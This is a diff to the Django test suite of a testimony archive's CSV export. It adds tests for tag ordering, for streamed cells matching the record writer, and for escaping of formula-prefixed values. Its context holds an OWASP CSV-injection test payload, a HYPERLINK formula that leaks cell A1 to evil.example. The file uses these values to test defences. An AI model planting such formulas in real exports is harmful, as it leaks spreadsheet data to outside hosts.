@@ -112,6 +112,65 @@ def test_csv_joins_several_tags_with_semicolons(client, published):
     assert sorted(row["tags"].split(";")) == ["first-hand", "second-hand"]
 
 
+def test_csv_names_tags_in_the_vocabulary_order_and_follows_a_change_of_tags(client, published):
+    # A tag added last but placed first in its group: the vocabulary's order is not the order of the ids.
+    first = Tag.objects.first()
+    Tag.objects.create(group=first.group, name="Added last", slug="added-last", position=first.position - 1)
+    in_order = list(Tag.objects.values_list("slug", flat=True))
+    assert in_order[0] == "added-last"
+    published.tags.set(Tag.objects.filter(slug__in=[in_order[-1], in_order[0], in_order[3]]))
+
+    (row,) = _csv(client.get("/testimonies/export.csv"))
+    assert row["tags"] == ";".join([in_order[0], in_order[3], in_order[-1]])
+
+    published.tags.set(Tag.objects.filter(slug=in_order[2]))
+    (row,) = _csv(client.get("/testimonies/export.csv"))
+    assert row["tags"] == in_order[2]
+
+    published.tags.clear()
+    (row,) = _csv(client.get("/testimonies/export.csv"))
+    assert row["tags"] == ""
+
+
+def test_every_csv_cell_is_the_one_the_record_writer_makes(db):
+    """The CSV writer reads plain values and makes each column's cells its own way; they must be the cells
+    ``csv_row`` makes of the same testimony loaded as the JSON export loads it, whatever the values."""
+    place = factories.make_place("Almaty", slug="-almaty")
+    tags = list(Tag.objects.all())
+    incidents = [factories.make_incident(f"Incident {n}", slug=f"{'=' if n == 1 else ''}incident-{n}") for n in (2, 1)]
+    factories.make_testimony(
+        "=Plain formula",
+        body="'@SUM(1)",
+        translation="-В толпу",
+        place=place,
+        part_of_day="night",
+        is_date_approximate=True,
+        source_url="https://example.org/a",
+        source_published=datetime.date(2022, 2, 6),
+        tags=[tags[4], tags[0]],
+        incidents=incidents,
+    )
+    factories.make_testimony("Bare", date_end=datetime.date(2022, 1, 9), collected_on=datetime.date(2022, 3, 1))
+    retracted = factories.make_testimony("+Withdrawn", tags=tags[1:3], status=Status.RETRACTED)
+    retracted.retraction_note = "@source withdrew it"
+    retracted.save()
+
+    def url_for(identifier):
+        return f"=https://archive.example/{identifier}"
+
+    public = Testimony.objects.public().order_by("number")
+    written = list(csv.reader(io.StringIO("".join(interchange.csv_chunks(public, url_for=url_for, chunk_size=2)))))
+    expected = [
+        interchange.csv_row(testimony, url_for(testimony.identifier))
+        for testimony in interchange.export_queryset(public, cross_references=False)
+    ]
+
+    assert written[0] == list(interchange.CSV_COLUMNS)
+    assert written[1:] == expected
+    assert written[1][interchange.CSV_COLUMNS.index("tags")] == f"{tags[0].slug};{tags[4].slug}"
+    assert written[1][interchange.CSV_COLUMNS.index("incidents")] == "'=incident-1;incident-2"
+
+
 # --- formula injection (OWASP "CSV Injection") -------------------------------------------------------------------
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Watch the video")'
@@ -382,7 +441,7 @@ def test_export_queries_do_not_grow_with_rows(client, db, django_assert_num_quer
     place = factories.make_place("Almaty", slug="almaty")
     _make_rows(10, place)
     # CSV: the 4 of the vocabulary the filters find the place and its subtree in (kept by each process outside
-    # tests: KEEP_VOCABULARY), then per chunk the rows, their tags, their incidents.
+    # tests: KEEP_VOCABULARY), the tags' slugs, then per chunk the rows and their incidents.
     # JSON: the same 4; 8 for the file's vocabulary (statements bring their incidents); 4 per chunk of rows.
     with django_assert_num_queries(queries):
         assert _body(client.get(path, {"place": "almaty"})).count("saw: Row ") == 10
@@ -400,9 +459,10 @@ def test_writers_query_per_chunk_not_per_row(db, django_assert_num_queries):
     def url_for(identifier):
         return f"/t/{identifier}"
 
-    # 12 rows in chunks of 5: three chunks, each the rows (one query on SQLite, which fetches them in one go, or
-    # a server-side cursor on PostgreSQL), their tags and their incidents.
-    with django_assert_num_queries(1 + 2 * 3):
+    # 12 rows in chunks of 5: the tags' slugs once, the rows (one query on SQLite, which fetches them in one go, or
+    # a server-side cursor on PostgreSQL), then each of the three chunks' incidents. Tags are named from each row's
+    # copy of its links, with no query per chunk.
+    with django_assert_num_queries(1 + 1 + 3):
         rows = list(
             csv.reader(io.StringIO("".join(interchange.csv_chunks(testimonies, url_for=url_for, chunk_size=5))))
         )
